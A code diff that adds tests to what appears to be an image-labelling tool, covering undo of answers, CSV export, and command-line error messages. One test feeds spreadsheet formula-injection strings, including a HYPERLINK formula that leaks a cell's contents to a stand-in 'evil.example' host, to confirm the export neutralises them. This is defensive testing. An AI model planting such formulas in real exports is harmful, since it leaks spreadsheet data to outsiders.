@@ -1,6 +1,7 @@
 """Parts of the labelling desk without a browser: the queue's orders, the store of answers, tiles, agreement,
 exports."""
 
+import csv
 import io
 import shutil
 import sqlite3
@@ -121,6 +122,18 @@ def test_answers_are_kept_across_openings_and_never_changed(tmp_path: Path) -> N
     again.close()
 
 
+def test_an_undoing_sent_again_answers_what_it_did(tmp_path: Path) -> None:
+    store = Answers(tmp_path / "a.sqlite")
+    store.add("act-1", "Ada", ["t1"], "class", "Forest")
+    store.add("act-2", "Ada", ["t2", "t3"], "class", "Water")
+    for _ in range(2):
+        assert [row.tile for row in store.undo("act-3", "Ada")] == ["t2", "t3"]
+    assert store.undo("act-3", "Bea") == store.undo("act-1", "Ada") == ()
+    assert told(standing(store.rows())) == {"Ada": {"t1": "Forest"}}
+    assert len(store.rows()) == 4
+    store.close()
+
+
 def test_a_file_that_is_no_store_is_told(tmp_path: Path) -> None:
     (tmp_path / "a.sqlite").write_bytes(b"something else entirely, and long enough to be looked at" * 30)
     with pytest.raises(DatasetError, match="holds no answers"):
@@ -153,6 +166,26 @@ def client_of(desk: Desk) -> TestClient:
     return TestClient(
         app, base_url="http://127.0.0.1", headers={"authorization": f"Bearer {TOKEN}"}, client=("127.0.0.1", 50000)
     )
+
+
+def test_what_people_write_is_no_formula_in_a_table(tmp_path: Path) -> None:
+    link = '=HYPERLINK("http://evil.example?"&A1,"see")'
+    with opened(Wanted(write_textures(tmp_path / "tiles", 4), size_px=64)) as desk:
+        client = client_of(desk)
+        tile = client.get("/v1/desk/queue?who=x").json()["tiles"][0]["id"]
+        body = {"tiles": [tile], "kind": "mixed"}
+        notes = {link: link, "+1": "@SUM(A1)", "-2": "\t=1", "Ada": "two\nlines - and =", "O'Hara": "'tis"}
+        for number, (who, note) in enumerate(notes.items()):
+            given = {**body, "act": f"act-number-{number:08}", "who": who, "note": note}
+            assert client.post("/v1/desk/answers", json=given).status_code == 200, who
+        rows = list(csv.DictReader(io.StringIO(client.get("/v1/desk/answers.csv").text, newline="")))
+        found = {row["reviewer"]: row["note"] for row in rows}
+        marked = {f"'{who}": f"'{note}" for who, note in list(notes.items())[:3]}
+        assert found == {**marked, "Ada": "two\nlines - and =", "O'Hara": "'tis"}
+        for wrong in ({"who": "A\nB"}, {"who": "A\x00"}, {"who": "A\u2028B"}, {"note": "a\x1bb"}, {"note": "a\rb"}):
+            answer = client.post("/v1/desk/answers", json={**body, "act": "a" * 16, "who": "Ada", **wrong})
+            assert answer.status_code == 422 and "control characters are not taken" in answer.json()["error"], wrong
+        assert client.get("/v1/desk/queue", params={"who": "A\x07B"}).status_code == 422
 
 
 # ---- people
@@ -219,6 +252,23 @@ def test_what_opens_the_desk_and_what_a_page(tmp_path: Path, monkeypatch: pytest
         assert (run(*wrong).exit_code == 2 and "leave it out" in run(*wrong).stderr) or "is for a dataset" in run(
             *wrong
         ).stderr
+
+
+def test_what_cannot_be_labelled_is_told_with_its_own_remedy(tmp_path: Path) -> None:
+    empty, plain, none = tmp_path / "empty", chips(tmp_path / "plain", 2), tmp_path / "none"
+    empty.mkdir()
+    cases: list[tuple[tuple[object, ...], str]] = [
+        ((), "name a dataset, a folder of pictures, or imagery"),
+        ((none,), f"there is no {none}; check the path"),
+        ((tmp_path / "*.tif",), "check the path"),
+        ((empty,), f"{empty} is empty; give a folder with pictures or a dataset"),
+        ((plain,), f"{plain} holds pictures without classes; name the classes with --scheme"),
+    ]
+    for inputs, words in cases:
+        for more in ((), ("--no-browser",)):
+            told_so = run("label", *inputs, *more)
+            assert told_so.exit_code == 2 and words in " ".join(told_so.stderr.split()), told_so.stderr
+    assert "with --scheme, or the saved answers" in run("label", "https://example.invalid/a.tif").stderr
 
 
 def test_tiles_that_no_longer_exist_are_told_kept_and_left_out(tmp_path: Path) -> None:
